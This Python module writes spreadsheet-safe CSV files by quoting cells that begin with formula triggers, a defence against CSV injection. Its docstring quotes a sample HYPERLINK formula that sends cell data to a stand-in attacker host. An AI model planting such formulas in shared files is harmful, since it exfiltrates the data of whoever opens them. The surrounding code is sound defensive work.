"""CSV files that a spreadsheet opens as data, never as formulas (OWASP "CSV injection").

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula (tab and carriage return lead some of
them there too), so a name such as `=HYPERLINK("http://evil/?"&A1)` in a file people open could send their data away.
Every CSV gpupool writes goes through `SafeWriter` or `SafeDictWriter`, which prefix such a cell with a single quote,
as OWASP advises: the spreadsheet shows the text, quote hidden, and runs nothing.

Numbers stay numbers: an int or float cell, or a string that is a plain decimal number (`-3`, `-0.25`, `1e-05`),
is written as it is. Such a cell cannot hold a formula, and quoting it would turn a negative figure into text.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

#: what a cell may start with to be taken for a formula
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet should see it: a string starting with a trigger gets a leading `'`, unless it is a
    plain decimal number; anything that is not a string is returned unchanged."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every cell passes through `safe_cell`."""

    def __init__(self, handle: Any, **fmt: Any) -> None:
        self._writer = csv.writer(handle, **fmt)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """`csv.DictWriter` whose every cell passes through `safe_cell` (the header too)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
